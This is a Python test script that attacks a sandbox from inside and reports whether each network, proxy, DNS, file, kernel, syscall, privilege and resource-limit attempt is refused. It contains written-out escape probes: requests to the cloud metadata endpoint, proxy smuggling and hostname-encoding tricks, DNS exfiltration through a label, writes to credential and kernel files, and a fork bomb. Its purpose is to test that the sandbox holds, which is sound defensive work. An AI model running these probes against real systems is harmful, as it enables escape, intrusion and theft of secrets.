"""Attacks the sandbox from inside and prints one JSON line for each attack.

Every attack names what has to happen: an errno, an HTTP status or a DNS answer. Anything else is "broken" when the attack
got through, and "error" when it could not be tried. Nothing here harms the machine when it succeeds.
"""

import ctypes
import errno
import json
import os
import socket
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
PROXY = ("127.0.0.1", 3128)


def refused(action, *expected):
    """Held when the action fails with one of the expected errnos."""
    try:
        action()
    except OSError as error:
        name = errno.errorcode.get(error.errno, str(error))
        return ("held" if error.errno in expected else "error"), name
    return "broken", "it worked"


def syscall(number, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def call(number, *arguments, expected=(errno.EPERM, errno.ENOSYS)):
    return lambda: refused(lambda: syscall(number, *arguments), *expected)


def sock(family, kind, protocol=0, expected=(errno.EPERM, errno.EAFNOSUPPORT, errno.EACCES)):
    return lambda: refused(lambda: socket.socket(family, kind, protocol).close(), *expected)


def connect(address, family=socket.AF_INET, expected=(errno.ENETUNREACH, errno.EADDRNOTAVAIL)):
    def action():
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(5)
            s.connect(address)
    return lambda: refused(action, *expected)


def write(path, expected=(errno.EROFS, errno.EACCES, errno.EPERM, errno.ENOENT)):
    def action():
        with open(path, "w") as f:
            f.write("x")
    return lambda: refused(action, *expected)


def read(path, expected=(errno.EACCES, errno.EPERM, errno.ENOENT)):
    """Held when the file cannot be opened, or is masked and therefore empty."""
    def attack():
        try:
            with open(path, "rb") as f:
                content = f.read(16)
        except OSError as error:
            return ("held" if error.errno in expected else "error"), errno.errorcode.get(error.errno, "?")
        return ("broken", "it has content") if content else ("held", "empty")
    return attack


def listed(path):
    def attack():
        try:
            names = os.listdir(path)
        except OSError as error:
            return "held", errno.errorcode.get(error.errno, "?")
        return ("broken", names[0]) if names else ("held", "empty")
    return attack


def exists(path):
    return lambda: ("broken", "it is there") if os.path.exists(path) else ("held", "absent")


def ask_proxy(request, *statuses):
    """Held when the proxy answers with one of these statuses, or closes without any byte of an answer."""
    def attack():
        with socket.create_connection(PROXY, timeout=10) as s:
            s.sendall(request)
            answer = s.recv(200)
        if not answer:
            return "held", "closed"
        status = answer.split(b" ")[1].decode() if answer.startswith(b"HTTP/1") else repr(answer)
        return ("held" if status in statuses else "broken"), status
    return attack


def connect_to(target):
    return ask_proxy(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode(), "403", "400")


def resolve(name, kind=1):
    """Asks the sandbox's own resolver; held when the name does not exist there (RCODE 3) or has no such record."""
    def attack():
        question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
        message = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + question + struct.pack(">HH", kind, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(5)
            s.sendto(message, ("127.0.0.53", 53))
            answer = s.recv(512)
        code, answers = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
        return ("held" if answers == 0 and code in (0, 3, 5) else "broken"), f"rcode {code}, {answers} answers"
    return attack


def status(field, expected):
    def attack():
        for line in open("/proc/self/status"):
            if line.startswith(field + ":"):
                value = line.split()[1]
                return ("held" if value == expected else "broken"), value
        return "error", "no such field"
    return attack


def fork_bomb():
    children = []
    try:
        while len(children) < 3000:
            pid = os.fork()
            if pid == 0:
                os.read(hold[0], 1)
                os._exit(0)
            children.append(pid)
    except OSError as error:
        outcome = ("held" if error.errno == errno.EAGAIN else "error"), f"{errno.errorcode[error.errno]} after {len(children)}"
    else:
        outcome = "broken", "3000 processes"
    os.close(hold[1])
    for pid in children:
        os.waitpid(pid, 0)
    return outcome


def fill(path, limit):
    def attack():
        name = os.path.join(path, "fill")
        try:
            with open(name, "wb") as f:
                for _ in range(limit >> 20):
                    f.write(b"\0" * (1 << 20))
        except OSError as error:
            return ("held" if error.errno in (errno.ENOSPC, errno.EFBIG) else "error"), errno.errorcode[error.errno]
        finally:
            if os.path.exists(name):
                os.unlink(name)
        return "broken", f"{limit >> 20} MiB"
    return attack


def mounted_read_only(target):
    def attack():
        for line in open("/proc/self/mountinfo"):
            fields = line.split()
            if fields[4] == target:
                return ("held" if "ro" in fields[5].split(",") and " - tmpfs " in line else "broken"), fields[5]
        return "broken", "not a mount"
    return attack


def many_files():
    files = []
    try:
        while len(files) < 200000:
            files.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        return ("held" if error.errno == errno.EMFILE else "error"), f"{errno.errorcode[error.errno]} after {len(files)}"
    finally:
        for file in files:
            os.close(file)
    return "broken", "200000 open files"


hold = os.pipe()
CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWNS, CLONE_NEWPID = 0x10000000, 0x40000000, 0x00020000, 0x20000000
ATTACKS = {
    "network: address outside": connect(("1.1.1.1", 443)),
    "network: metadata": connect(("169.254.169.254", 80)),
    "network: docker bridge": connect(("172.17.0.1", 22)),
    "network: IPv6": connect(("2606:4700:4700::1111", 443), socket.AF_INET6),
    "network: foreign resolver": connect(("8.8.8.8", 53)),
    "network: broadcast": connect(("255.255.255.255", 80), expected=(errno.ENETUNREACH, errno.EACCES)),
    "network: raw socket": sock(socket.AF_INET, socket.SOCK_RAW, 1),
    "network: packet socket": sock(17, socket.SOCK_RAW, 0x0300),
    "network: vsock": sock(40, socket.SOCK_STREAM),
    "network: kernel crypto": sock(38, socket.SOCK_SEQPACKET),
    "network: XDP": sock(44, socket.SOCK_RAW),
    "network: audit netlink": sock(16, socket.SOCK_RAW, 9),
    "network: netfilter netlink": sock(16, socket.SOCK_RAW, 12),
    "network: bluetooth": sock(31, socket.SOCK_RAW, 1),
    "proxy: unlisted host": connect_to("example.com:443"),
    "proxy: metadata": connect_to("169.254.169.254:80"),
    "proxy: loopback": connect_to("127.0.0.1:3128"),
    "proxy: loopback as a number": connect_to("2130706433:80"),
    "proxy: loopback in hexadecimal": connect_to("0x7f.1:80"),
    "proxy: IPv6 loopback": connect_to("[::1]:80"),
    "proxy: mapped metadata": connect_to("[::ffff:169.254.169.254]:80"),
    "proxy: user information": connect_to("api.example.com@example.com:443"),
    "proxy: NUL in the name": ask_proxy(b"CONNECT example.com\0.api.example.com:443 HTTP/1.1\r\n\r\n", "400", "403"),
    "proxy: other port of a listed host": connect_to("api.example.com:22"),
    "proxy: unlisted host in plain": ask_proxy(b"GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n", "403"),
    "proxy: two lengths": ask_proxy(
        b"POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 4\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "400", "403"),
    "proxy: two hosts": ask_proxy(
        b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nHost: example.com\r\n\r\n", "400", "403"),
    "proxy: folded line": ask_proxy(
        b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nX: a\r\n b\r\n\r\n", "400", "403"),
    "proxy: origin form": ask_proxy(b"GET / HTTP/1.1\r\nHost: example.com\r\n\r\n", "400", "403"),
    "dns: unlisted name": resolve("example.com"),
    "dns: data in a label": resolve("c2VjcmV0.attacker.example.net"),
    "dns: text of an unlisted name": resolve("attacker.example.net", 16),
    "dns: text of a listed name": resolve("api.example.com", 16),
    "dns: name below a listed one": resolve("data.api.example.com"),
    "files: root": write("/x"),
    "files: system": write("/usr/bin/git"),
    "files: accounts": write("/etc/passwd"),
    "files: resolver": write("/etc/resolv.conf"),
    "files: helper": write("/.sandbox/sandbox"),
    "files: credential": write("/run/secrets/token"),
    "files: new credential": write("/run/secrets/other"),
    "files: credentials' mount": mounted_read_only("/run/secrets"),
    "files: docker socket": exists("/var/run/docker.sock"),
    "files: gateway's socket": exists("/run/channel"),
    "files: host's home": listed("/root"),
    "kernel: core handler": write("/proc/sys/kernel/core_pattern"),
    "kernel: sysrq": write("/proc/sysrq-trigger"),
    "kernel: sysctl": write("/proc/sys/net/ipv4/ip_forward"),
    "kernel: memory": read("/proc/kcore"),
    "kernel: keys": read("/proc/keys"),
    "kernel: command line": read("/proc/cmdline"),
    "kernel: symbols": read("/proc/kallsyms"),
    "kernel: modules": read("/proc/modules"),
    "kernel: firmware": listed("/sys/firmware"),
    "kernel: control groups": write("/sys/fs/cgroup/memory/memory.limit_in_bytes"),
    "kernel: disk device": exists("/dev/vda"),
    "syscall: unshare user": call(272, CLONE_NEWUSER),
    "syscall: unshare network": call(272, CLONE_NEWNET),
    "syscall: unshare mounts": call(272, CLONE_NEWNS),
    "syscall: setns": call(308, -1, 0),
    "syscall: mount": call(165, b"none", b"/tmp", b"tmpfs", 0, 0),
    "syscall: pivot_root": call(155, b"/", b"/"),
    "syscall: chroot": call(161, b"/tmp"),
    "syscall: bpf": call(321, 0, 0, 0),
    "syscall: perf_event_open": call(298, 0, 0, -1, -1, 0),
    "syscall: keyctl": call(250, 0, 0, 0),
    "syscall: add_key": call(248, b"user", b"x", b"y", 1, -3),
    "syscall: io_uring_setup": call(425, 1, 0),
    "syscall: userfaultfd": call(323, 0),
    "syscall: init_module": call(175, 0, 0, b""),
    "syscall: kexec_load": call(246, 0, 0, 0, 0),
    "syscall: reboot": call(169, 0, 0, 0, 0),
    "syscall: settimeofday": call(164, 0, 0),
    "syscall: swapon": call(167, b"/x", 0),
    "syscall: open_by_handle_at": call(304, -1, 0, 0),
    "syscall: fsopen": call(430, b"tmpfs", 0),
    "syscall: quotactl": call(179, 0, 0, 0, 0),
    "syscall: acct": call(163, 0),
    "privilege: root": lambda: refused(lambda: os.setuid(0), errno.EPERM),
    "privilege: root's group": lambda: refused(lambda: os.setgid(0), errno.EPERM),
    "privilege: own a device": lambda: refused(lambda: os.mknod("/tmp/dev", 0o60600, os.makedev(254, 0)), errno.EPERM),
    "privilege: effective capabilities": status("CapEff", "0000000000000000"),
    "privilege: bounding capabilities": status("CapBnd", "0000000000000000"),
    "privilege: new privileges": status("NoNewPrivs", "1"),
    "privilege: filter": status("Seccomp", "2"),
    "limit: processes": fork_bomb,
    "limit: temporary files": fill("/tmp", 2 << 30),
    "limit: shared memory": fill("/dev/shm", 2 << 30),
    "limit: open files": many_files,
}

# Shows that the tools of the attacks work at all: without this, a missing tool would look like a wall.
socket.socket(socket.AF_INET, socket.SOCK_STREAM).close()
socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).close()
assert syscall(39) == os.getpid()
with open("/tmp/control", "w") as control:
    control.write("x")
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
    probe.bind(("127.0.0.1", 0))

for name, attack in ATTACKS.items():
    try:
        outcome, seen = attack()
    except Exception as error:  # a wall that cannot be recognised is not a wall
        outcome, seen = "error", f"{type(error).__name__}: {error}"
    print(json.dumps({"name": name, "outcome": outcome, "seen": seen}))
    sys.stdout.flush()
